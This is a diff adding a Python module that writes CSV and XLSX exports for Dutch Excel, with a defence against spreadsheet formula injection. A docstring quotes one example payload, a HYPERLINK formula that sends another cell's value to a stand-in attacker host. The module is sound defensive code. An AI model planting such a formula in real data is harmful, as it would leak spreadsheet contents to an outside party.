@@ -1,0 +1,104 @@
+"""Writing rows as CSV and XLSX for people who open them in a spreadsheet program.
+
+Shared by every export (HR's enrolments, the programme manager's participant lists). Every
+text cell passes through :func:`neutralise`, because names and course titles are typed in by
+people outside the reader's control and the file is opened in Excel or LibreOffice.
+"""
+
+import csv
+import io
+from collections.abc import Iterable, Sequence
+from dataclasses import dataclass
+from datetime import date
+from decimal import Decimal
+
+from openpyxl import Workbook
+from openpyxl.styles import Font
+from openpyxl.utils import get_column_letter
+
+Cell = str | int | Decimal | date | None
+
+# Spreadsheet programs read a cell that starts with one of these as a formula (tab and carriage
+# return too: some programs strip them and then see the formula behind them).
+FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+
+
+@dataclass(frozen=True)
+class Column:
+    """One column: its header (may be lazy), its XLSX width in characters and number format."""
+
+    title: str
+    width: int = 16
+    number_format: str | None = None
+
+
+def neutralise(value: Cell) -> Cell:
+    """Make a text cell inert against formula injection (CSV/XLSX injection, OWASP).
+
+    A learner may call themself ``=HYPERLINK("https://evil.example?"&A1, "Klik")``; if the file
+    is opened in Excel or LibreOffice, that cell would run as a formula and could leak other
+    cells or start programs. A leading apostrophe makes the program treat the cell as text (it
+    is the escape Excel itself uses), so text starting with ``=``, ``+``, ``-``, ``@``, a tab or
+    a carriage return gets one. Everything else, including numbers and dates, passes unchanged:
+    a phone number like ``+31...`` keeps its digits and merely shows the apostrophe.
+    """
+    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
+        return f"'{value}"
+    return value
+
+
+def headers(columns: Sequence[Column]) -> list[str]:
+    """The column headers in the active language."""
+    return [str(column.title) for column in columns]
+
+
+def csv_value(value: Cell) -> str:
+    """One cell as CSV text: empty for None, ISO dates, a decimal point, text neutralised."""
+    if value is None:
+        return ""
+    if isinstance(value, date):
+        return value.isoformat()
+    if isinstance(value, Decimal):
+        # A decimal point, never a comma: the CSV is for other programs too, and a point is
+        # what every parser accepts. Who wants Excel to see numbers takes the XLSX.
+        return str(value)
+    return str(neutralise(value))
+
+
+def to_csv(columns: Sequence[Column], rows: Iterable[Sequence[Cell]]) -> bytes:
+    """The rows as CSV for Dutch Excel: UTF-8 with a byte-order mark, semicolon-separated.
+
+    The BOM makes Excel read UTF-8 (else names like "Hüseyin" break); Dutch Excel splits
+    columns on semicolons, because its decimal separator is the comma. Dates are ISO.
+    """
+    buffer = io.StringIO()
+    writer = csv.writer(buffer, delimiter=";", lineterminator="\r\n")
+    writer.writerow([neutralise(header) for header in headers(columns)])
+    for row in rows:
+        writer.writerow([csv_value(value) for value in row])
+    return ("\ufeff" + buffer.getvalue()).encode("utf-8")
+
+
+def to_xlsx(
+    columns: Sequence[Column], rows: Iterable[Sequence[Cell]], *, sheet_title: str
+) -> bytes:
+    """The rows as an Excel workbook: real numbers and dates, bold frozen header row."""
+    workbook = Workbook()
+    sheet = workbook.active
+    sheet.title = str(sheet_title)[:31]  # Excel's limit for sheet names
+    sheet.append([neutralise(header) for header in headers(columns)])
+    for cell in sheet[1]:
+        cell.font = Font(bold=True)
+    for row in rows:
+        sheet.append([neutralise(value) for value in row])
+    for index, column in enumerate(columns, start=1):
+        letter = get_column_letter(index)
+        sheet.column_dimensions[letter].width = column.width
+        if column.number_format:
+            for (cell,) in sheet.iter_rows(min_row=2, min_col=index, max_col=index):
+                cell.number_format = column.number_format
+    sheet.freeze_panes = "A2"
+    sheet.auto_filter.ref = sheet.dimensions
+    buffer = io.BytesIO()
+    workbook.save(buffer)
+    return buffer.getvalue()
